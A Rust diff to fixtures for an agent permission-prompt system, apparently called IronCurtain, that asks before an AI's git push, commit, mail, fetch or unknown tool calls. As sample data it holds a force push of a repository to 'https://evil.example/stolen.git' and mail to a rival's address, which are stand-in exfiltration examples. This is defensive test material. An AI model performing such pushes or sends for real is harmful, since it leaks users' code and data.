@@ -12,14 +12,14 @@ pub(super) fn push(base: Question) -> Question {
         tool: Some("git_push".into()),
         consequences: vec![
             Consequence { note: None, ..pushed },
-            Consequence { allowed: true, ..line(Verb::Record, "/home/ada/src/app", "folder") },
+            Consequence { note: None, allowed: true, ..line(Verb::Record, "/home/ada/src/app", "") },
         ],
         with: vec![("force".into(), "true".into())],
         also: vec![],
-        reason: "Reaching the network needs your word.".into(),
+        reason: "Sends data to the internet.".into(),
         rule: "ask-before-connecting".into(),
         preview: None,
-        offers: vec![call_once()],
+        offers: vec![call_once("push main to https://evil.example/stolen.git and 1 other thing")],
         ..base
     }
 }
@@ -30,10 +30,10 @@ pub(super) fn commit(base: Question) -> Question {
     Question {
         server: "git".into(),
         tool: Some("git_commit".into()),
-        consequences: vec![Consequence { object, note: Some("folder".into()), ..line(Verb::Commit, "", "") }],
+        consequences: vec![Consequence::new(Verb::Commit, object)],
         also: vec![],
         preview: None,
-        offers: vec![call_once()],
+        offers: vec![call_once("commit \u{201c}Ship it: the third attempt\u{201d} in ~/src/app")],
         ..base
     }
 }
@@ -54,7 +54,7 @@ pub(super) fn mail(base: Question) -> Question {
         ],
         also: vec![],
         preview: None,
-        offers: vec![call_once()],
+        offers: vec![call_once("send a message to boss@rival.example and 1 other thing")],
         ..base
     }
 }
@@ -68,7 +68,7 @@ pub(super) fn issue(base: Question) -> Question {
         with: vec![("title".into(), "It leaks".into()), ("body".into(), "Here is how.".into())],
         also: vec![],
         preview: None,
-        offers: vec![call_once()],
+        offers: vec![call_once("publish to acme/app on GitHub")],
         ..base
     }
 }
@@ -107,7 +107,12 @@ pub(super) fn fetch(base: Question) -> Question {
     for offer in &mut offers {
         offer.lifetimes.retain(|lifetime| *lifetime != Lifetime::Once);
     }
-    offers.insert(0, call_once());
+    offers.insert(
+        0,
+        call_once(
+            "fetch https://files.example.org/packages/source/r/requests/requests-2.34.2.tar.gz?from=agent",
+        ),
+    );
     Question {
         tool: Some("fetch".into()),
         consequences: vec![Consequence {
@@ -129,23 +134,26 @@ pub(super) fn tool(base: Question) -> Question {
         tool: Some("create_entities".into()),
         consequences: vec![Consequence {
             object: vec![
-                Piece::Ours("the tool "),
                 foreign("create_entities"),
-                Piece::Ours(" of the server "),
-                foreign("memory"),
+                Piece::Ours(" with "),
+                foreign("entities"),
+                Piece::Ours(": "),
+                foreign("[{\"name\":\"Ada\"}]"),
             ],
             note: None,
             ..line(Verb::Use, "", "")
         }],
-        with: vec![("entities".into(), "[{\"name\": \"Ada\"}]".into())],
+        with: vec![],
         also: vec![],
         preview: None,
         offers: vec![
-            call_once(),
+            call_once("call create_entities with entities: [{\"name\":\"Ada\"}]"),
             Offer {
                 reach: Reach::Tool,
-                label: "this tool, with any entities".into(),
-                sentence: "Claude Code may use create_entities of the server memory".into(),
+                label: "any use of create_entities".into(),
+                sentence:
+                    "Claude Code may use create_entities, whatever the call says, through the server memory"
+                        .into(),
                 lifetimes: vec![Lifetime::Session, Lifetime::Hour, Lifetime::Always],
             },
         ],
@@ -153,26 +161,32 @@ pub(super) fn tool(base: Question) -> Question {
     }
 }
 
-/// A tool that nobody has described, with arguments of forty lines: all of them are shown.
+/// A tool that nobody has described, with arguments of forty lines: all of them have to be read.
 pub(super) fn unknown(base: Question) -> Question {
     let script: String =
         (1..=40).map(|n| format!("step {n}: copy report-{n:02}.csv to the archive\n")).collect();
-    let with = vec![("script".to_owned(), script), ("dry_run".to_owned(), "false".to_owned())];
+    let object = vec![
+        foreign("run_script"),
+        Piece::Ours(" with "),
+        foreign("script"),
+        Piece::Ours(": "),
+        foreign(&script),
+    ];
+    let dry_run = ("dry_run".to_owned(), "false".to_owned());
     Question {
         server: "automation".into(),
         tool: Some("run_script".into()),
         consequences: vec![Consequence {
-            object: vec![foreign("run_script")],
-            note: Some("nobody has said what this tool does".into()),
-            ..line(Verb::Call, "", "")
+            note: Some("IronCurtain does not know what this tool does".into()),
+            ..Consequence::new(Verb::Call, object)
         }],
-        arguments: with.clone(),
-        with,
+        arguments: vec![("script".to_owned(), script), dry_run.clone()],
+        with: vec![dry_run],
         also: vec![],
         rule: "unannotated".into(),
-        reason: "nobody has said what this tool does".into(),
+        reason: "IronCurtain does not know what this tool does".into(),
         preview: None,
-        offers: vec![call_once()],
+        offers: vec![call_once("call run_script with script: \u{201c}step 1 \u{2026} archive\u{201d}")],
         ..base
     }
 }
